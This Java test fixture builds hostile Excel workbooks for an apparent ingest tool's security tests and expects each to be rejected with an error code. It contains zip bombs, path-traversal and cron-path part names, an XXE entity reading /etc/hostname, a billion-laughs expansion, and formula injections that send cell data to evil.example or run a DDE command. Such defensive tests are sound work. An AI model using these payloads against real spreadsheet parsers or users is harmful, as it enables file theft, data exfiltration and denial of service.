package org.rapporteur.cli;

import static org.rapporteur.cli.HostileFile.CANARY;
import static org.rapporteur.ingest.Workbook.number;
import static org.rapporteur.ingest.Workbook.row;
import static org.rapporteur.ingest.Workbook.text;

import java.util.Arrays;
import java.util.List;
import org.rapporteur.ingest.Workbook;

/// The workbooks of `HostileCorpusTest`.
final class HostileWorkbooks {

  private HostileWorkbooks() {}

  /// What a zip file can do before any part of it is read.
  static List<HostileFile> packages() {
    byte[] blanks = new byte[60_000_000];
    Arrays.fill(blanks, (byte) ' ');
    byte[] bomb = Workbook.honest().part("xl/sharedStrings.xml", blanks).bytes();
    byte[] many = new byte[1_990_000];
    Workbook quilt = Workbook.honest();
    for (int i = 0; i < 200; i++) {
      quilt.part("xl/media/" + i, many);
    }
    byte[] twice = Workbook.honest().part("xl/workbooq.xml", CANARY).bytes();
    return List.of(
        HostileFile.of("a bomb", "f.xlsx", bomb, "error S-004  f.xlsx"),
        HostileFile.of(
            "a bomb that lies about its size",
            "f.xlsx",
            Bytes.replaced(bomb, Bytes.of(60_000_000), Bytes.of(120)),
            "error S-004  f.xlsx"),
        HostileFile.of(
            "a bomb of many small parts", "f.xlsx", quilt.bytes(), "error S-004  f.xlsx"),
        HostileFile.of(
            "a part that stands twice",
            "f.xlsx",
            Bytes.replaced(twice, "xl/workbooq.xml", "xl/workbook.xml"),
            "error S-005  f.xlsx"),
        part("../../evil.xml", "S-005"),
        part("/etc/cron.d/evil", "S-005"),
        part("xl\\evil.xml", "S-005"),
        part("xl/\u0007evil.xml", "S-005"),
        part("xl/vbaProject.bin", "S-003"),
        part("xl/externalLinks/externalLink1.xml", "S-003"),
        part("xl/embeddings/oleObject1.bin", "S-003"),
        part("xl/activeX/activeX1.bin", "S-003"),
        part("xl/connections.xml", "S-003"),
        HostileFile.of(
            "a way out under an innocent name", "f.xlsx", related(), "error S-003  f.xlsx"));
  }

  private static byte[] related() {
    String relation = "<Relationship Id='r' Type='x/externalLink' Target='theme/theme1.xml'/>";
    return Workbook.honest()
        .part("xl/worksheets/_rels/sheet1.xml.rels", "<R>" + relation + "</R>")
        .part("xl/theme/theme1.xml", CANARY)
        .bytes();
  }

  private static HostileFile part(String name, String code) {
    byte[] content = Workbook.honest().part(name, CANARY).bytes();
    return HostileFile.of("the part " + name, "f.xlsx", content, "error " + code + "  f.xlsx");
  }

  /// What stands in the parts.
  static List<HostileFile> parts() {
    String outside = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>";
    StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY e0 'ha'>");
    for (int i = 1; i < 40; i++) {
      laughs.append("<!ENTITY e%d '%s'>".formatted(i, ("&e" + (i - 1) + ";").repeat(10)));
    }
    laughs.append("<!ENTITY e '&e39;'>]>");
    StringBuilder rows = new StringBuilder();
    for (int i = 2; i <= 200_002; i++) {
      rows.append(row(i, number("C", i, "1")));
    }
    StringBuilder spaces = new StringBuilder("<worksheet ");
    for (int i = 0; i < 300_000; i++) {
      spaces.append("xmlns:a").append(i).append("='u' ");
    }
    StringBuilder names = new StringBuilder("<worksheet>");
    for (int i = 0; i < 1 << 16; i++) {
      names.append('<');
      for (int bit = 0; bit < 16; bit++) {
        names.append((i >> bit & 1) == 0 ? "Aa" : "BB");
      }
      names.append("/>");
    }
    StringBuilder deep = new StringBuilder();
    for (int i = 0; i < 1_000_000; i++) {
      deep.append("<a b='").append(i).append("'>");
    }
    String longest = row(2, text("A", 2, "x".repeat(32_768)));
    return List.of(
        HostileFile.of("an outside entity", "f.xlsx", entity(outside), "error S-005  f.xlsx"),
        HostileFile.of(
            "a billion laughs", "f.xlsx", entity(laughs.toString()), "error S-005  f.xlsx"),
        formula("WEBSERVICE(\"http://evil.example/?\"&amp;A3)"),
        formula("HYPERLINK(\"http://evil.example/?\"&amp;A3,\"22\")"),
        formula("cmd|'/c calc'!A1"),
        formula("[1]Sheet1!A1"),
        HostileFile.of(
            "namespaces without number",
            "f.xlsx",
            sheet(spaces.append("/>")),
            "error S-001  f.xlsx"),
        HostileFile.of(
            "names of one hash code",
            "f.xlsx",
            sheet(names.append("</worksheet>")),
            "error S-001  f.xlsx"),
        HostileFile.of(
            "elements within elements without end", "f.xlsx", sheet(deep), "error S-001  f.xlsx"),
        HostileFile.of(
            "200,001 rows", "f.xlsx", Workbook.of(rows.toString()).bytes(), "error S-004  f.xlsx"),
        HostileFile.of(
            "a far column",
            "f.xlsx",
            Workbook.of(row(2, number("XFD", 2, "1"))).bytes(),
            "error S-004  f.xlsx"),
        HostileFile.of(
            "a cell longer than any",
            "f.xlsx",
            Workbook.of(longest).bytes(),
            "error S-004  f.xlsx"),
        numeral("1e308", "error V-023  f.xlsx \u203a figures \u203a C2"),
        numeral("1e400", "error V-023  f.xlsx \u203a figures \u203a C2"),
        numeral("1e999999999", "error S-001  f.xlsx"));
  }

  private static HostileFile formula(String formula) {
    String cell = "<c r='C2'><f>" + formula + "</f><v>22</v></c>";
    return HostileFile.of(
        "the formula " + formula,
        "f.xlsx",
        Workbook.of(row(2, text("A", 2, CANARY), cell)).bytes(),
        "error S-003  f.xlsx \u203a figures \u203a C2");
  }

  private static HostileFile numeral(String stored, String expected) {
    String cells = text("A", 2, "victims-identified") + text("B", 2, "2023-04/2024-03");
    Workbook workbook = Workbook.of(row(2, cells, number("C", 2, stored), text("D", 2, "person")));
    return HostileFile.of("the number " + stored, "f.xlsx", workbook.bytes(), expected);
  }

  private static byte[] sheet(CharSequence content) {
    return Workbook.honest().part("xl/worksheets/sheet1.xml", content.toString()).bytes();
  }

  private static byte[] entity(String declaration) {
    String sheet =
        declaration
            + "<worksheet><sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>&e;</t></is></c>"
            + "</row></sheetData></worksheet>";
    return sheet(sheet);
  }
}
